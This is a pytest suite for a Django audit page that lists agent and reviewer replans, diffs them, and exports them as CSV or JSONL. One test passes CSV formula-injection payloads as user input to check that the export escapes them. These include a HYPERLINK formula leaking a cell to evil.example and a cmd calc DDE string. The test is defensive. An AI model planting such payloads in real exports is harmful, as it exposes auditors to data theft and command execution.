"""`/audit/replans/`: every replan across runs, filtered; a side-by-side diff per replan; CSV and
JSONL exports of the filtered set, streamed, for auditors."""

import csv
import datetime as dt
import io
import json
from unittest import mock

import pytest
from django.urls import reverse

from runs.people import actions
from tests.dashboard_world import agent_replanned, plan_waiting, world  # noqa: F401
from tests.factories import ReplanEventFactory

LIST = reverse("replan_list")
CSV = reverse("replan_export_csv")
JSONL = reverse("replan_export_jsonl")
QUERIES = 4  # session, user (permissions and role chips kept between requests: supervisor.person_roles), the count, one page of replans (with run, ticket and event)


def person_replanned(user, trigger: str = "the customer phoned"):
    """A reviewer's edit of a waiting plan: reword subtask 1, drop 3, add a fourth."""
    run = plan_waiting()
    subtasks = {s.number: s for s in run.subtasks.prefetch_related("steps")}
    steps = lambda s: [{"title": st.title, "tool": st.tool, "precondition": st.precondition, "acceptance": st.acceptance,  # noqa: E731
                        "effect_class": st.effect_class} for st in s.steps.all()]
    proposal = [
        {"number": 1, "goal": "refund the second delivery charge", "kind": "duplicate_charge", "steps": steps(subtasks[1])},
        {"number": 2, "goal": subtasks[2].goal, "kind": "damaged_item", "steps": steps(subtasks[2])},
        {"number": 4, "goal": "refund the tax on the bookcase", "kind": "damaged_item", "steps": steps(subtasks[2])},
    ]
    actions.plan_edit(run_id=run.pk, user=user, subtasks=proposal, trigger=trigger)
    return run


def listed(response) -> list[int]:
    return [view.replan.pk for view in response.context["page"].object_list]


@pytest.mark.parametrize("role", ["lead", "reviewer", "auditor", "admin_user"])
def test_it_lists_replans_for_every_role(request, world, client_for, role):
    replan = agent_replanned().replans.get()
    response = client_for(request.getfixturevalue(role)).get(LIST)
    assert response.status_code == 200 and listed(response) == [replan.pk]
    assert "customer says the panel is fine after all" in response.content.decode()


def test_it_filters_by_run_actor_ticket_and_date(world, reviewer, auditor, client_for):
    # The history refuses UPDATE (a trigger on PostgreSQL), so the older replan is made at an older time.
    with mock.patch("django.utils.timezone.now", return_value=dt.datetime(2026, 3, 1, 9, tzinfo=dt.UTC)):
        by_agent = agent_replanned().replans.get()
    by_person = person_replanned(reviewer).replans.get()
    client = client_for(auditor)
    assert listed(client.get(LIST, {"run": by_agent.run_id})) == [by_agent.pk]
    assert listed(client.get(LIST, {"actor_kind": "agent"})) == [by_agent.pk]
    assert listed(client.get(LIST, {"actor_kind": "person"})) == [by_person.pk]
    assert listed(client.get(LIST, {"actor": "REVIEWER"})) == [by_person.pk]
    assert listed(client.get(LIST, {"ticket": by_person.run.ticket.ref})) == [by_person.pk]
    assert listed(client.get(LIST, {"created_before": "2026-03-01"})) == [by_agent.pk]
    assert listed(client.get(LIST, {"created_after": "2026-03-02"})) == [by_person.pk]


@pytest.mark.parametrize("run", ["1e30", "-1e30", "99999999999999999999999", "9223372036854775808", "0", "-5", "1.5", "x"])
def test_a_run_filter_no_id_can_be_is_refused_with_400_not_a_server_error(world, auditor, client_for, run):
    agent_replanned()
    client = client_for(auditor)
    response = client.get(LIST, {"run": run})
    assert response.status_code == 400 and listed(response) == []
    for url in (CSV, JSONL):
        response = client.get(url, {"run": run})
        assert response.status_code == 400 and not response.streaming
        assert response.content.decode().startswith("The filter was refused (run: ")


def test_a_run_filter_at_the_largest_id_finds_nothing(world, auditor, client_for):
    agent_replanned()
    client = client_for(auditor)
    assert listed(client.get(LIST, {"run": str(2**63 - 1)})) == []
    assert body(client.get(CSV, {"run": str(2**63 - 1)})).splitlines()[1:] == []


def test_it_shows_the_export_buttons_only_to_those_who_may_export(world, reviewer, auditor, client_for):
    agent_replanned()
    assert "Export CSV" in client_for(auditor).get(LIST, {"actor_kind": "agent"}).content.decode()
    assert f'href="{CSV}?actor_kind=agent"' in client_for(auditor).get(LIST, {"actor_kind": "agent"}).content.decode()
    assert "Export CSV" not in client_for(reviewer).get(LIST).content.decode()


def test_a_filter_applied_through_htmx_updates_the_export_links_too(world, auditor, client_for):
    agent_replanned()
    html = client_for(auditor).get(LIST, {"actor_kind": "agent"}, headers={"HX-Request": "true"}).content.decode()
    assert 'id="replans-table"' in html
    exports = html[html.index('id="replan-exports"'):]
    assert 'hx-swap-oob="true"' in exports[:60]
    assert f'href="{CSV}?actor_kind=agent"' in exports and f'href="{JSONL}?actor_kind=agent"' in exports


def test_it_says_so_when_there_are_no_replans(world, auditor, client_for):
    assert "No replans yet" in client_for(auditor).get(LIST).content.decode()


def test_it_makes_the_same_queries_for_few_or_many_replans(world, auditor, client_for, django_assert_num_queries):
    agent_replanned()
    client = client_for(auditor)
    with django_assert_num_queries(QUERIES):
        client.get(LIST)
    for _ in range(4):
        agent_replanned()
    with django_assert_num_queries(QUERIES):
        client.get(LIST)


# --- the diff ---------------------------------------------------------------------------------


def test_it_shows_added_removed_and_changed_subtasks_side_by_side(world, auditor, client_for):
    replan = ReplanEventFactory(
        old_plan=[{"number": 1, "goal": "refund the duplicate delivery charge", "kind": "duplicate_charge", "status": "open"},
                  {"number": 2, "goal": "settle the cracked panel", "kind": "damaged_item", "status": "open"},
                  {"number": 3, "goal": "confirm no replacement", "kind": "question", "status": "open"}],
        new_plan=[{"number": 1, "goal": "refund the second delivery charge", "kind": "duplicate_charge", "status": "open"},
                  {"number": 3, "goal": "confirm no replacement", "kind": "question", "status": "open"},
                  {"number": 4, "goal": "open a carrier claim", "kind": "non_delivery", "status": "open"}],
    )
    response = client_for(auditor).get(reverse("replan_detail", args=[replan.pk]))
    html = response.content.decode()
    assert [(r.number, r.state) for r in response.context["view"].rows] == [(1, "changed"), (2, "removed"), (3, "same"), (4, "added")]
    assert '<div class="diff-row diff-row--changed" role="row">' in html
    assert '<span class="diff-field diff-field--old">refund the duplicate delivery charge</span>' in html
    assert '<span class="diff-field diff-field--new">refund the second delivery charge</span>' in html
    assert '<span class="diff-tag diff-tag--removed">removed</span>' in html and "(not in the new plan)" in html
    assert '<span class="diff-tag diff-tag--added">added</span>' in html and "(not in the old plan)" in html
    assert "1 added" in html and "1 removed" in html and "1 changed" in html


def test_it_shows_a_persons_replan_as_theirs(world, reviewer, auditor, client_for):
    replan = person_replanned(reviewer).replans.get()
    html = client_for(auditor).get(reverse("replan_detail", args=[replan.pk])).content.decode()
    assert '<span class="badge tone-wait">reviewer</span> (a person)' in html
    assert "refund the tax on the bookcase" in html and '<span class="diff-tag diff-tag--added">added</span>' in html
    assert "deferred" in html  # subtask 3, left out of the edit, is deferred rather than dropped


def test_it_answers_404_for_a_replan_that_does_not_exist(world, auditor, client_for):
    assert client_for(auditor).get(reverse("replan_detail", args=[999])).status_code == 404


# --- exports ----------------------------------------------------------------------------------


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("role,allowed", [("auditor", True), ("admin_user", True), ("lead", False), ("reviewer", False)])
def test_it_exports_only_for_auditors_and_admins(request, world, client_for, role, allowed):
    agent_replanned()
    client = client_for(request.getfixturevalue(role))
    for url in (CSV, JSONL):
        assert client.get(url).status_code == (200 if allowed else 403)


def test_it_exports_the_filtered_set_as_csv(world, reviewer, auditor, client_for):
    by_agent = agent_replanned().replans.get()
    by_person = person_replanned(reviewer).replans.get()
    response = client_for(auditor).get(CSV, {"actor_kind": "person"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="replans-')
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert [int(r["replan_id"]) for r in rows] == [by_person.pk]
    row = rows[0]
    assert (row["run_id"], row["ticket"], row["actor"], row["actor_kind"]) == (str(by_person.run_id), by_person.run.ticket.ref, "reviewer", "person")
    assert (row["added"], row["removed"], row["changed"]) == ("1", "0", "2")
    assert json.loads(row["new_plan"])[0]["goal"] == "refund the second delivery charge"
    assert by_agent.trigger not in body(client_for(auditor).get(CSV, {"actor_kind": "person"}))


@pytest.mark.parametrize("trigger", ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                     "\tsneaky"])
def test_the_csv_export_writes_a_formula_a_person_typed_as_text(world, reviewer, auditor, client_for, trigger):
    person_replanned(reviewer, trigger=trigger)
    (row,) = csv.DictReader(io.StringIO(body(client_for(auditor).get(CSV))))
    assert row["trigger"] == "'" + trigger
    jsonl = json.loads(body(client_for(auditor).get(JSONL)))
    assert jsonl["trigger"] == trigger  # JSON is data, not a spreadsheet: left as typed


def test_it_exports_jsonl_one_replan_per_line(world, reviewer, auditor, client_for):
    by_agent = agent_replanned().replans.get()
    by_person = person_replanned(reviewer).replans.get()
    lines = body(client_for(auditor).get(JSONL)).splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["replan_id"] for r in records] == [by_person.pk, by_agent.pk]  # newest first
    agent = records[1]
    assert agent["actor_kind"] == "agent" and agent["trigger"] == "customer says the panel is fine after all"
    assert [s["number"] for s in agent["old_plan"]] == [1, 2, 3]
    assert agent["diff"]["changed"][0]["fields"]["status"] == ["open", "deferred"]
